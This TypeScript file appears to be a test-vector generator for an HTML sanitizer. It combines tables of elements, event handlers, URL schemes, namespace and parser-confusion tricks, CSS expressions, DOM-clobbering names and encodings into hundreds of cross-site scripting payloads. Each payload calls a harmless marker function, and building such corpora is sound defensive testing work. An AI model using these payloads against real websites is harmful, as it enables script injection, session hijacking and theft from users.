/** Texts that would run a script where a page takes them for HTML: made from tables, after the published classes. */
type Write = (script: string) => string;

/** Calls what the browser was given, with the vector's number. */
const call = (n: number) => `attacked(${n})`;

const elements: [element: string, event: string][] = [
  ['img src=x', 'onerror'],
  ['img src=/favicon.svg', 'onload'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onhashchange'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['a href=# autofocus', 'onfocusin'],
  ['p tabindex=0 autofocus', 'onfocus'],
  ['p contenteditable autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['div popover=manual id=pop', 'onbeforetoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video autoplay src=/favicon.svg', 'onloadstart'],
  ['object data=x', 'onerror'],
  ['embed src=/favicon.svg', 'onload'],
  ['iframe src=/favicon.svg', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['style', 'onload'],
  ['marquee', 'onstart'],
  ['p style=animation:x', 'onanimationstart'],
  ['p style=transition:all', 'ontransitionend'],
  ['p', 'onpointerover'],
  ['p', 'onclick'],
  ['strong', 'oncontentvisibilityautostatechange'],
  ['blockquote', 'onscroll'],
  ['table background=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['isindex autofocus', 'onfocus'],
  ['math', 'onfocus'],
  ['li', 'onmouseenter'],
  ['pre class=ql-syntax', 'onwheel'],
];

/** How an attribute may be written. */
const attributes: ((element: string, event: string) => Write)[] = [
  (element, event) => (script) => `<${element} ${event}=${script}>`,
  (element, event) => (script) => `<${element} ${event}="${script}">text</${element.split(' ')[0]}>`,
  (element, event) => (script) => `<${element} ${event.toUpperCase()}='${script}' >`,
  (element, event) => (script) => `<${element.toUpperCase()}\t${event}\n=\r${script}>`,
  (element, event) => (script) => `<${element.replaceAll(' ', '/')}/${event}=${script}//`,
  (element, event) => (script) => `<${element}\f${event}=${entities(script)}>`,
  (element, event) => (script) => `<${element} x="a"${event}=${script} y='`,
  (element, event) => (script) => `"><${element} \u0000${event}=${script} ${event}=${script}>`,
];

const urlPlaces: Write[] = [
  (url) => `<a href="${url}">press</a>`,
  (url) => `<a href="${url}" target="_self"><img src="/favicon.svg" alt="press"></a>`,
  (url) => `<img src="${url}">`,
  (url) => `<img srcset="${url} 1x, ${url} 2x" src="${url}">`,
  (url) => `<picture><source srcset="${url}"><img src=x></picture>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<embed src="${url}">`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<form action="${url}"><button autofocus>press</button></form>`,
  (url) => `<button formaction="${url}" form=f>press</button><form id=f></form>`,
  (url) => `<svg><a xlink:href="${url}"><text y=20>press</text></a></svg>`,
  (url) => `<svg><use href="${url}#x"></use></svg>`,
  (url) =>
    `<svg><a><animate attributeName=href values="${url}" begin=0s fill=freeze /><text y=20>press</text></a></svg>`,
  (url) => `<math><maction actiontype="statusline" xlink:href="${url}">press</maction></math>`,
  (url) => `<math href="${url}"><mtext>press</mtext></math>`,
  (url) => `<base href="${url}/"><a href=x>press</a>`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<link rel=stylesheet href="${url}">`,
  (url) => `<script src="${url}"></script>`,
  (url) => `<video poster="${url}" src="${url}"></video>`,
  (url) => `<body background="${url}">`,
  (url) => `<blockquote cite="${url}">quote</blockquote>`,
  (url) => `<map name=m><area shape=default href="${url}"></map><img usemap=#m src=/favicon.svg>`,
  (url) => `<p style="background:url(${url})">text</p>`,
];

const urls: Write[] = [
  (script) => `javascript:${script}`,
  (script) => `JaVaScRiPt:${script}`,
  (script) => ` \u0001\u001fjavascript:${script}`,
  (script) => `java\tscript:${script}`,
  (script) => `java&#10;script&colon;${script}`,
  (script) => `${entities('javascript:')}${script}`,
  (script) => `&#x6A&#x61vascript&#58${script}`,
  (script) => `javascript://example.org/%0a${script}`,
  (script) => `javascript:'<script>${script}</script>'`,
  (script) => `vbscript:${script}`,
  (script) => `data:text/html,<script>parent.${script}</script>`,
  (script) => `data:text/html;base64,${base64(`<script>parent.${script}</script>`)}`,
  (script) => `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"/>`)}`,
  (script) => `view-source:javascript:${script}`,
];

const namespaces: Write[] = [
  (s) => `<svg><script>${s}</script></svg>`,
  (s) => `<svg><script href="data:text/javascript,${s}"/></svg>`,
  (s) => `<svg><script>&#97;ttacked${s.slice(8)}</script></svg>`,
  (s) => `<svg><animate onbegin=${s} attributeName=x dur=1s>`,
  (s) => `<svg><set onbegin=${s} attributeName=x to=1>`,
  (s) => `<svg><animateTransform onbegin=${s} attributeName=transform>`,
  (s) => `<svg><foreignObject><img src=x onerror=${s}></foreignObject></svg>`,
  (s) => `<svg><style><img src=x onerror=${s}></style></svg>`,
  (s) => `<svg><desc><img src=x onerror=${s}></desc></svg>`,
  (s) => `<svg><title><img src=x onerror=${s}></title></svg>`,
  (s) => `<svg></p><style><a title="</style><img src=x onerror=${s}>">`,
  (s) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${s}&gt;">`,
  (s) => `<math><mtext><mglyph><style><math><table id="</table>"><img src onerror=${s}">`,
  (s) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${s}>`,
  (s) => `<math><annotation-xml encoding="text/html"><style></annotation-xml><img src=x onerror=${s}></style>`,
  (s) => `<math><mi//xlink:href="data:x,<script>${s}</script>">`,
  (s) => `<svg><mtext><textarea><path id="</textarea><img onerror=${s} src=1>">`,
  (s) => `<svg><p><style><g title="</style><img src onerror=${s}>">`,
  (s) => `<noscript><p title="</noscript><img src=x onerror=${s}>">`,
  (s) => `<noscript><style></noscript><img src=x onerror=${s}>`,
  (s) => `<template><img src=x onerror=${s}></template>`,
  (s) => `<div><template shadowrootmode=open><img src=x onerror=${s}></template></div>`,
  (s) => `<select><noembed></select><script x='a@b'a y='</noembed><img src=x onerror=${s}>'>`,
  (s) => `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${s}>">`,
  (s) => `<table><caption><svg><title><table><caption></title><img src=x onerror=${s}>`,
  (s) => `<p><svg><![CDATA[><img src=x onerror=${s}>]]></svg>`,
  (s) => `<xmp><p title="</xmp><img src=x onerror=${s}>">`,
  (s) => `<iframe srcdoc="<script>parent.${s}</script>"></iframe>`,
  (s) => `<iframe><p title="</iframe><img src=x onerror=${s}>">`,
  (s) => `<noembed><p title="</noembed><img src=x onerror=${s}>">`,
  (s) => `<textarea><p title="</textarea><img src=x onerror=${s}>">`,
  (s) => `<title><p title="</title><img src=x onerror=${s}>">`,
  (s) => `<plaintext><p title="</plaintext><img src=x onerror=${s}>">`,
  (s) => `${'<div>'.repeat(600)}<svg><style><!--</style><img src=x onerror=${s}>`,
  (s) => `${'<b>'.repeat(120)}<table><td><svg></svg><img src=x onerror=${s}>`,
];

const unclosed: Write[] = [
  (s) => `<script>${s}</script>`,
  (s) => `<script\u0020>${s}</script\t\n bar>`,
  (s) => `<scr<script>ipt>${s}</scr</script>ipt>`,
  (s) => `<<script>${s}//<</script>`,
  (s) => `<script>${s}`,
  (s) => `<script type=module>${s}</script>`,
  (s) => `<script src="data:text/javascript,${s}"></script>`,
  (s) => `<script/x>${s}</script/x>`,
  (s) => `</script><script>${s}</script>`,
  (s) => `</title><script>${s}</script>`,
  (s) => `</style><script>${s}</script>`,
  (s) => `</textarea><script>${s}</script>`,
  (s) => `--><script>${s}</script>`,
  (s) => `]]><script>${s}</script>`,
  (s) => `<!--><img src=x onerror=${s}>-->`,
  (s) => `<!--!><img src=x onerror=${s}>-->`,
  (s) => `<!-- --!><img src=x onerror=${s}>-->`,
  (s) => `<!--<img src="--><img src=x onerror=${s}//">`,
  (s) => `<![CDATA[<img src="]]><img src=x onerror=${s}//">]]>`,
  (s) => `<?xml version="1.0"?><img src=x onerror=${s}>`,
  (s) => `<!DOCTYPE x [<!ENTITY e "<script>${s}</script>">]>&e;`,
  (s) => `<% <img src=x onerror=${s}> %>`,
  (s) => `<a href="x" title="\`><img src=x onerror=${s}>\`">`,
  (s) => `<img """><script>${s}</script>">`,
  (s) => `<img src="x" alt="\`\`onerror=${s}">`,
  (s) => `<img src=x:x onerror=${s}//`,
  (s) => `<img src='x' alt='"><img src=x onerror=${s}>'>`,
  (s) => `<p title='</p><img src=x onerror=${s}>'>`,
  (s) => `<p class="</p><img src=x onerror=${s}>" lang='"><img src=x onerror=${s}>'>`,
  (s) => `<pre data-language="'&quot;><img src=x onerror=${s}>">x</pre>`,
  (s) => `<pre data-language="__proto__">${s}</pre>`,
  (s) => `<div class="ql-code-block" data-language="html">&lt;img src=x onerror=${s}&gt;</div>`,
  (s) => `<td colspan="1 onload=${s}">`,
  (s) => `<ol start="1><img src=x onerror=${s}>" type="a"><li data-list="bullet onclick=${s}">`,
];

const styles: Write[] = [
  (s) => `<p style="width:expression(${s})">x</p>`,
  (s) => `<p style="-moz-binding:url(data:text/xml,${s})">x</p>`,
  (s) => `<p style="behavior:url(#default#time2)" onbegin=${s}>x</p>`,
  (s) => `<p style="background:url('javascript:${s}')">x</p>`,
  (s) => `<p style="x:\\65xpression(${s})">x</p>`,
  (s) => `<style>@import 'javascript:${s}';</style>`,
  (s) => `<style>*{background:url(javascript:${s})}</style>`,
  (s) => `<style></style><img src=x onerror=${s}></style>`,
  (s) => `<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=${s}>x</p>`,
  (s) => `<link rel=stylesheet href="data:text/css,*{x:expression(${s})}">`,
  (s) => `<style><!--</style><script>${s}//--></script>`,
];

const names: Write[] = [
  (s) => `<form id=attributes><input name=attributes><img src=x onerror=${s}></form>`,
  (s) => `<form><input name=parentNode><input name=childNodes></form><img src=x onerror=${s}>`,
  (s) => `<form onsubmit=${s}><input name=removeAttribute><button autofocus>x</button></form>`,
  (s) => `<img name=body><img name=getElementById><img name=cookie src=x onerror=${s}>`,
  (s) => `<a id=__proto__ href="javascript:${s}">x</a>`,
  (s) => `<a id=defaultView><a id=defaultView name=fetch href="data:,${s}">x</a>`,
  (s) => `<__proto__ onclick=${s}><constructor onload=${s}>x</constructor></__proto__>`,
  (s) => `<constructor><img src=x onerror=${s}></constructor>`,
  (s) => `<hasOwnProperty/><toString><img src=x onerror=${s}></toString>`,
  (s) => `<p __proto__="x" constructor=${s} onx=${s}>x</p>`,
  (s) => `<x-attack is=script>${s}</x-attack>`,
  (s) => `<button is=x onclick=${s}>x</button>`,
];

/** For places that are no HTML: templates, JSON, titles, XML, mail. */
const contexts: Write[] = [
  (s) => `"-${s}-"`,
  (s) => `'-${s}-'`,
  (s) => `\\"-${s}}//`,
  (s) => `</script><img src=x onerror=${s}>`,
  (s) => `<!--<script>${s}`,
  (s) => `\${${s}}`,
  (s) => `{{constructor.constructor('${s}')()}}`,
  (s) => `{{=<% ${s} %>=}}`,
  (s) => `#{${s}}[[${s}]]`,
  (s) => `\u2028${s}\u2029${s}`,
  (s) => `＜script＞${s}＜/script＞`,
  (s) => `\u017fcript \u212a<\u017fcript>${s}</\u017fcript>`,
  (s) => `%3Cscript%3E${s}%3C/script%3E`,
  (s) => `\\u003cscript\\u003e${s}\\u003c/script\\u003e`,
  (s) => `\\x3cscript\\x3e${s}\\x3c/script\\x3e`,
  (s) => `&lt;script&gt;${s}&lt;/script&gt;`,
  (s) => `&amp;lt;img src=x onerror=${s}&amp;gt;`,
  (s) => `${entities('<img src=x onerror=')}${s}${entities('>')}`,
  (s) => `&LT;script&GT;${s}&LT;/script&GT;`,
  (s) => `&#60script&#62${s}&#60/script&#62`,
  (s) => `&#x0003c;img src=x onerror=${s}&#x0003e;`,
  (s) => `+ADw-script+AD4-${s}+ADw-/script+AD4-`,
  (s) => `\u00bcscript\u00be${s}\u00bc/script\u00be`,
  (s) => `\u202e>${s}=rorreno x=crs gmi<`,
  (s) => `<img\u00a0src=x\u00a0onerror=${s}>`,
  (s) => `<img\u200bsrc=x onerror=${s}>`,
  (s) => `<\u0000script>${s}</script>`,
  (s) => `<i\u0000mg src=x onerror=${s}>`,
  (s) => `\ufeff<script>${s}</script>`,
  (s) => `=?utf-8?q?=3Cimg_src=3Dx_onerror=3D${s}=3E?=`,
  (s) => `x\r\nContent-Type: text/html\r\n\r\n<script>${s}</script>`,
  (s) => `[x](javascript:${s})`,
  (s) => `![x](x"onerror="${s})`,
];

const cyclesOf = <T>(values: readonly T[], n: number): T => values[n % values.length] as T;

function entities(text: string): string {
  return text.replace(/[^]/g, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`);
}

function base64(text: string): string {
  return Buffer.from(text).toString('base64');
}

const writes: Write[] = [
  ...elements.flatMap(([element, event]) => attributes.map((write) => write(element, event))),
  ...urlPlaces.flatMap((place) =>
    urls.map(
      (url): Write =>
        (script) =>
          place(url(script)),
    ),
  ),
  ...[...namespaces, ...unclosed, ...styles, ...names, ...contexts],
  // Each odd beginning before each way that needs no press.
  ...contexts.map(
    (context, n): Write =>
      (script) =>
        context(cyclesOf(namespaces, n)(script)),
  ),
];

export type Vector = { n: number; text: string };

export const vectors: Vector[] = writes.map((write, n) => ({ n, text: write(call(n)) }));
